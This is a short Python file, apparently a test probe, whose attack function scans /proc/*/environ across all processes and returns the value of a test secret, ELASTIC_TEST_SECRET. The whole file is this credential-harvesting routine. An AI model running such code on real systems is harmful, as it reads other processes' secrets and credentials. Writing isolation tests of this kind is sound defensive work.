"""Reads the environment of every process."""

import glob


def attack(x):
    for path in glob.glob("/proc/[0-9]*/environ"):
        for entry in open(path).read().split(chr(0)):
            if entry.startswith("ELASTIC_TEST_SECRET="):
                return entry.partition("=")[2]
